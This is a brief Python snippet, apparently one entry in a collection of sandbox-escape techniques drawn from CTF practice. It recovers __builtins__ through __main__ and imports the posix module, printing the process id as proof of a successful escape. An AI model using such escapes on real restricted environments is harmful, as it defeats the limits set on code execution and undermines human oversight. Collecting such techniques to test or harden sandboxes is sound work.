# technique: import __main__, then its __builtins__
# goal: builtins
# source: CTF folklore
import __main__
b = __main__.__builtins__
print('ESCAPED pid=%d' % b.__import__('posix').getpid())
